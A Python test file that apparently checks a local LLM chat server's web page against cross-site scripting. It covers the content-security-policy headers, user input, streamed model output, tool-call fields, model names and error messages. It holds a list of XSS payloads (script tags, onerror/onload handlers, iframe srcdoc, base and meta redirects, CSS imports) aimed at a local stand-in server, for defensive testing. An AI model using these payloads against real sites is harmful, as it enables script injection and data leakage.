"""Faults that users of comparable servers met with the web page. Each class is one case of the field list."""
import base64
import http.server
import json
import pathlib
import re
import sys
import threading
import time
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "api"))
from browser import Browser, find_browser  # noqa: E402
from quern_server import LLAMA, Server  # noqa: E402

BROWSER = find_browser()


class Outside(http.server.BaseHTTPRequestHandler):
    """Whatever comes here was not to be asked for."""

    def log_message(self, *arguments):
        pass

    def do_GET(self):
        self.server.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"window.hit = 1")


def payloads(outside):
    return [
        "<img src=x onerror=\"window.hit=1;alert(1)\">",
        "<script>window.hit=1;alert(1)</script>",
        f"</article></main><script src=\"{outside}/a.js\"></script>",
        f"![remote]({outside}/b.png) [link](javascript:alert(1))",
        "<svg onload=\"window.hit=1;alert(1)\"><animate onbegin=alert(1) attributeName=x></svg>",
        f"<iframe src=\"{outside}/c\" srcdoc=\"<script>parent.hit=1;parent.alert(1)</script>\"></iframe>",
        f"<base href=\"{outside}/\"><meta http-equiv=refresh content=\"0;url={outside}/d\">",
        f"<style>@import url({outside}/e.css);body{{background:url({outside}/f.png)}}</style>",
        f"<form action=\"{outside}/g\"><input name=q autofocus onfocus=\"window.hit=1;alert(1)\"><button>send</button></form>",
        f"<link rel=stylesheet href=\"{outside}/h.css\"><object data=\"{outside}/i\"></object>&lt;b&gt; \u2028 \"quoted\"",
    ]


# What Markdown may become; everything else that stands in a message is text.
ALLOWED = set("A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL".split())
LOADING = ("BASE", "EMBED", "FORM", "FRAME", "IFRAME", "IMG", "LINK", "META", "OBJECT", "SCRIPT", "STYLE", "VIDEO")


def as_markdown(payload):
    """The text of an answer: pictures are links, HTML stays as it is."""
    return re.sub(r"!\[(\w+)\]\([^)]*\)", r"\1", payload)


def event_stream(*deltas):
    return "".join(f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta}]})}\n\n" for delta in deltas) + "data: [DONE]\n\n"


class FC46WebPage(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.server = Server("--store", ":memory:", models=(LLAMA,))

    @classmethod
    def tearDownClass(cls):
        assert cls.server.stop() == 0

    def test_the_policy_forbids_inline_scripts_and_other_places(self):
        for path in ("/", "/docs"):
            status, text, headers = self.server.request("GET", path)
            self.assertEqual(status, 200)
            policy = {part.split()[0]: part.split()[1:] for part in headers["content-security-policy"].split(";")}
            self.assertEqual(policy["default-src"], ["'none'"])
            self.assertEqual(policy["connect-src"], ["'self'"])
            for name in ("base-uri", "form-action", "frame-ancestors"):
                self.assertEqual(policy[name], ["'none'"])
            self.assertEqual(len(policy["script-src"]), 1)
            self.assertTrue(policy["script-src"][0].startswith("'sha256-"))
            self.assertFalse(set(policy) & {"img-src", "media-src", "frame-src", "object-src"})
            self.assertEqual((policy["require-trusted-types-for"], policy["trusted-types"]), (["'script'"], ["'none'"]))
            self.assertEqual((text.count("<script"), text.count("</script")), (1, 1))
            markup = re.sub(r"(?s)<script>.*</script>|<style>.*</style>", "", text)
            self.assertIsNone(re.search(r"<[a-z][^>]*\s(on[a-z]+|src)=|https?:", markup))
            self.assertEqual(headers["x-content-type-options"], "nosniff")


@unittest.skipIf(BROWSER is None, "no Chromium is installed: the web page was not tried")
class FC46InABrowser(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.server = Server("--store", ":memory:", models=(LLAMA,))
        cls.outside = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Outside)
        cls.outside.hits = []
        threading.Thread(target=cls.outside.serve_forever, daemon=True).start()
        cls.payloads = payloads(f"http://127.0.0.1:{cls.outside.server_port}")

    @classmethod
    def tearDownClass(cls):
        cls.outside.shutdown()
        cls.outside.server_close()
        assert cls.server.stop() == 0

    def setUp(self):
        self.browser = Browser(BROWSER)
        self.addCleanup(self.browser.close)

    def intercept(self, part, kind, body, status=200):
        self.browser.call("Fetch.enable", patterns=[{"urlPattern": "*/v1/*"}])
        self.browser.interceptors.append((part, (kind, status, base64.b64encode(body.encode()).decode())))

    def open(self):
        self.browser.open(self.server.url + "/")
        self.browser.wait_for("document.querySelectorAll('#model option').length > 0")
        self.start()
        self.elements = self.count()

    def start(self):
        self.browser.evaluate("document.querySelector('#clear').click()")
        self.browser.wait_for("document.querySelectorAll('article').length === 0")

    def count(self):
        """How many elements there are that load or run something."""
        return self.browser.evaluate(f"{json.dumps(LOADING)}.map(name => document.querySelectorAll(name).length)")

    def say(self, text, expected):
        """Types and sends `text`; returns the conversation as [role, text] once it has `expected` messages and nothing runs."""
        self.browser.evaluate(f"document.querySelector('[data-testid=prompt]').value = {json.dumps(text)}")
        self.browser.evaluate("document.querySelector('[data-testid=prompt]').focus()")
        for kind in ("keyDown", "keyUp"):
            self.browser.call("Input.dispatchKeyEvent", type=kind, key="Enter", code="Enter", windowsVirtualKeyCode=13)
        self.browser.wait_for(f"document.querySelectorAll('article').length >= {expected} && document.querySelector('.chat').dataset.running === 'false'")
        return self.browser.evaluate("Array.from(document.querySelectorAll('article'), a => [a.dataset.role, a.textContent])")

    def assert_nothing_ran(self):
        time.sleep(0.1)
        self.assertIsNone(self.browser.evaluate("window.hit"))
        self.assertEqual(self.browser.dialogs, [])
        self.assertEqual([url for url in self.browser.requests if not url.startswith((self.server.url, "about:"))], [])
        self.assertEqual(self.outside.hits, [])
        self.assertEqual(self.count(), self.elements)
        inside = set(self.browser.evaluate("Array.from(document.querySelectorAll('article *'), e => e.tagName)"))
        self.assertEqual(inside - ALLOWED, set())
        self.assertEqual(self.browser.evaluate("Array.from(document.querySelectorAll('.messages *'), e => e.getAttributeNames()).flat()"
                                               ".filter(name => /^on|^src/.test(name))"), [])
        self.assertEqual(self.browser.evaluate("Array.from(document.querySelectorAll('article a'), a => a.protocol).filter(p => !/^(https?|mailto):$/.test(p))"), [])
        self.assertTrue(self.browser.evaluate("location.href").startswith(self.server.url))

    def test_what_the_user_wrote(self):
        self.open()
        for payload in self.payloads:
            conversation = self.say(payload, 2)
            self.assertEqual(conversation[0], ["user", payload])
            self.assertEqual(conversation[1][0], "assistant")
            self.assert_nothing_ran()
            self.start()
        self.browser.open(self.server.url + "/")  # and again at a reload
        self.assert_nothing_ran()

    def test_what_the_model_wrote(self):
        for payload in self.payloads:
            self.browser.interceptors.clear()
            pieces = [{"content": piece} for piece in re.findall(r"(?s).{1,7}", payload)]
            calls = {"tool_calls": [{"index": 0, "id": payload, "function": {"name": payload, "arguments": json.dumps({"x": payload})}}]}
            self.intercept("/v1/chat/completions", "text/event-stream", event_stream(*pieces, calls, {"reasoning_content": payload}))
            self.open()
            self.assertEqual(self.say("Hi", 2), [["user", "Hi"], ["assistant", as_markdown(payload)]])
            self.assert_nothing_ran()

    def test_errors_and_names(self):
        for payload in self.payloads:
            self.browser.interceptors.clear()
            self.intercept("/v1/models", "application/json", json.dumps({"data": [{"id": payload}]}))
            self.intercept("/v1/chat/completions", "application/json", json.dumps({"error": {"message": payload}}), 400)
            self.open()
            self.assertEqual(self.browser.evaluate("document.querySelector('#model').value"), payload)
            self.assertEqual(self.say("Hi", 3)[2], ["error", payload])
            self.assert_nothing_ran()
            self.browser.interceptors.pop()
            body = event_stream({"content": "a"}).replace("data: [DONE]", "data: " + json.dumps({"error": {"message": payload}}))
            self.intercept("/v1/chat/completions", "text/event-stream", body)
            self.assertEqual(self.say("Hi", 6)[4:], [["assistant", "a"], ["error", payload]])
            self.assert_nothing_ran()

    def test_the_policy_holds_even_against_the_script(self):
        """What would run without the policy; so a later slip in the page is not enough."""
        self.open()
        for payload in self.payloads:
            for slip in (f"document.body.insertAdjacentHTML('beforeend', {json.dumps(payload)})", f"document.body.innerHTML = {json.dumps(payload)}",
                         f"document.createElement('script').textContent = {json.dumps(payload)}", "document.body.setAttribute('onclick', 'window.hit = 1')"):
                self.assertEqual(self.browser.evaluate(f"(() => {{ try {{ {slip}; return 'done' }} catch (error) {{ return 'refused' }} }})()"), "refused", slip)
        url = f"http://127.0.0.1:{self.outside.server_port}"
        self.browser.evaluate(f"""for (const [name, fields] of Object.entries({{img: {{src: '{url}/a'}}, link: {{rel: 'stylesheet', href: '{url}/b'}},
            iframe: {{src: '{url}/c'}}, video: {{src: '{url}/d'}}, object: {{data: '{url}/e'}}, base: {{href: '{url}/'}}}})) {{
              try {{ document.body.append(Object.assign(document.createElement(name), fields)) }} catch {{}} }}
            fetch('{url}/f').catch(() => 0); const form = document.createElement('form'); form.action = '{url}/g'; document.body.append(form); form.submit()""")
        time.sleep(0.3)
        self.assertIsNone(self.browser.evaluate("window.hit"))
        self.assertEqual((self.browser.dialogs, self.outside.hits), ([], []))

    def test_the_page_that_shows_the_api_works(self):
        self.browser.open(self.server.url + "/docs")
        self.browser.wait_for("document.body.textContent.includes('/v1/chat/completions')")
        self.assertEqual(self.browser.dialogs, [])


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1])
